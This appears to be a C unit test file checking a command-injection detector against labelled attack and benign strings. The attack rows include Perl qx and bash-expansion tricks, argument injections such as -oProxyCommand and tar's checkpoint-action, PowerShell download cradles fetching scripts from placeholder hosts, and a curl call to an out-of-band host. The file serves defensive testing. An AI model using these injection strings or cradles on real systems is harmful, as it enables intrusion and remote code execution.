/* test_payload_rtc5.c - issue 20, helper c (session 27): command
 * injection rows of the review's open findings (rev5 G2, E3) and of a
 * fresh table's misses, one test per construct. Every value is judged as
 * a query parameter value and as a form body (payload_rt_table.h): an
 * attack must draw its own kind in both, a benign value nothing in
 * either. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define C PAYLOAD_CMDI
#define N PAYLOAD_NONE

/* Perl's qx with any punctuation as its delimiter, or blanks before it
 * (rev5 G2, E3): the value's only punctuation may be no cmdi gate byte */
static void test_cmdi_qx_any_delim(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"qx#id#", C},
		{"qx~id~", C},
		{"qx:id:", C},
		{"qx.id.", C},
		{"qx@id@", C},
		{"qx-id-", C},
		{"qx^whoami^", C},
		{"qx~uname -a~", C},
		{"qx (id)", C},
		{"qx\t{id}", C},
		{"qx [id]", C},
		{"qx :whoami:", C},
		{"x=qx,id,;", C},
		/* qooxdoo's namespace, ids and part numbers */
		{"qx.ui.form.Button", N},
		{"qx.core.Init.getApplication()", N},
		{"qx.test.Unit", N},
		{"qx-id-list", N},
		{"QX:1234", N},
		{"qx-2000 series", N},
	};
	rt_run("cmdi-qx-any-delim", t, sizeof(t) / sizeof(t[0]));
}

/* ${..} defaults spelt otherwise (rev5 E3): bash's indirection ${!x:-..}
 * and $'..' quoting run the default too */
static void test_cmdi_default_spelt(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{";${x:-$'id'}", C},
		{";${!x:-uname}", C},
		{"|${!y:-whoami}", C},
		{"&& ${z:-$'\\x69\\x64'}", C},
		{"&& ${z:-$'\\151\\144'}", C},
		{"${HOME:-/root}", N},
		{"${!prefix@}", N},
		{"${PORT:-8080}", N},
	};
	rt_run("cmdi-default-spelt", t, sizeof(t) / sizeof(t[0]));
}

/* an option that runs a command, written with no blank: no cmdi gate
 * byte but the lead '-' and '=' */
static void test_cmdi_arg_no_blank(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"-oProxyCommand=id", C},
		{"-oProxyCommand=curl${IFS}x.oob.example", C},
		{"--use-compress-program=sh", C},
		{"--checkpoint-action=exec=sh", C},
		{"--to-command=id", C},
		{"--compress-program=id", C},
		{"--open-files-in-pager=id", C},
		{"-execdir sh -c id {} ;", C},
		{"--config=core.sshCommand=id", C},
		{"-c core.sshCommand=id", C},
		{"-o json", N},
		{"--output=json", N},
		{"--output=report.csv", N},
		{"--format=table", N},
		{"--since=2024-01-01", N},
		{"-Dmaven.test.skip=true", N},
		{"--max-old-space-size=4096", N},
		{"-Dlog4j2.formatMsgNoLookups=true", N},
		{"--config=config/app.yml", N},
		{"--label=team=payments", N},
		{"--checkpoint=1000", N},
		{"-12.5", N},
		{"tar --use-compress-program=zstd -cf backup.tar.zst data/", N},
		{"git -c core.editor=vim commit", N},
	};
	rt_run("cmdi-arg-no-blank", t, sizeof(t) / sizeof(t[0]));
}

/* a command word written backwards and turned by rev in a substitution */
static void test_cmdi_rev_word(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"abc$($(echo vne|rev))||", C},
		{"1`$(echo ohce|rev) vulnerable`", C},
		{"x;$(echo 'imaohw' | rev)", C},
		{"echo olleh | rev", N},
		{"rev 2.1 | echo chamber review", N},
	};
	rt_run("cmdi-rev-word", t, sizeof(t) / sizeof(t[0]));
}

/* PowerShell's Invoke-Expression given what it fetched or decoded: the
 * download cradles (as "iwr host | iex" is a download piped into a
 * shell) */
static void test_cmdi_ps_cradle(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"IEX(New-Object Net.WebClient).DownloadString('http://10.0.0.5/p.ps1')", C},
		{"IEX (iwr 'http://10.0.0.5/p.ps1' -UseBasicParsing)", C},
		{"iex(irm x.oob.example/r)", C},
		{"; Invoke-Expression (Invoke-WebRequest http://x/a).Content", C},
		{"iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA')))", C},
		{"x' ; iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/a')) #", C},
		{"iex is short for Invoke-Expression; avoid it.", N},
		{"Never run iex (iwr ...) from untrusted sites.", N},
		{"Invoke-WebRequest -Uri https://example.com -OutFile page.html", N},
		{"the IEX (Investors Exchange) feed", N},
		{"Apex(New-Object) pattern", N},
	};
	rt_run("cmdi-ps-cradle", t, sizeof(t) / sizeof(t[0]));
}

/* below the kill line (60): an option that runs a program naming a
 * tool's own program (the option's ordinary use, a docs search or a CI
 * field) is told, not killed; a shell, a probe, a path or a command line
 * after it is killed (the merge tester's rows, h17c 3c7282a) */
static void test_cmdi_arg_program(void **st)
{
	static const struct {
		const char *in;
		int kill;
	} t[] = {
		{"--use-compress-program=zstd", 0},
		{"--use-compress-program=pigz", 0},
		{"--compress-program=gzip", 0},
		{"-c core.pager=less", 0},
		{"-c core.pager=cat", 0},
		{"-c core.fsmonitor=true", 0},
		{"--open-files-in-pager=vim", 0},
		{"-oProxyCommand=none", 0},
		{"--rsh=ssh", 0},
		{"--to-command=cat", 0},
		{"--upload-pack=git-upload-pack", 0},
		{"-oProxyCommand=id", 1},
		{"--use-compress-program=sh", 1},
		{"--checkpoint-action=exec=sh", 1},
		{"--use-compress-program=/tmp/x", 1},
		{"-oProxyCommand=curl${IFS}x.oob.example", 1},
		{"--rsh=nc", 1},
		{"-oProxyCommand=\"nc 10.0.0.1 22\"", 1},
	};
	int bad = 0;

	(void)st;
	payload_cache_enable(0);
	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		struct payload_match m[PAYLOAD__COUNT];
		int n = payload_scan(t[i].in, strlen(t[i].in), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT), best = 0;

		for (int k = 0; k < n; k++)
			if (m[k].score > best)
				best = m[k].score;
		if ((best >= 60) != t[i].kill) {
			bad++;
			fprintf(stderr, "  FAIL cmdi-arg-program: %s %d %s\n", t[i].kill ? "no kill" : "kill", best, t[i].in);
		}
	}
	payload_cache_enable(1);
	assert_int_equal(bad, 0);
}

/* a call that runs a command with blanks before its '(', and Python's
 * subprocess given a probe or an interpreter told to run code; the docs'
 * own examples (ls, git, a script) stay quiet */
static void test_cmdi_code_call(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"os.system ('id')", C},
		{"system ('id')", C},
		{"exec ('cat /etc/passwd')", C},
		{"subprocess.run (['id'])", C},
		{"subprocess.call(['sh','-c','id'])", C},
		{"';subprocess.check_output('whoami',shell=True)#", C},
		{"the system (Apache 2.4)", N},
		{"Use subprocess.run (['git', 'status']) instead of os.system.", N},
		{"subprocess.run([\"ls\", \"-l\"], check=True)", N},
		{"subprocess.run(\"ls -l\", shell=True)", N},
		{"subprocess.check_output([\"git\", \"rev-parse\", \"HEAD\"])", N},
		{"subprocess.call([\"python3\", \"manage.py\", \"migrate\"])", N},
	};
	rt_run("cmdi-code-call", t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_cmdi_qx_any_delim),
		cmocka_unit_test(test_cmdi_default_spelt),
		cmocka_unit_test(test_cmdi_arg_no_blank),
		cmocka_unit_test(test_cmdi_rev_word),
		cmocka_unit_test(test_cmdi_ps_cradle),
		cmocka_unit_test(test_cmdi_arg_program),
		cmocka_unit_test(test_cmdi_code_call),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
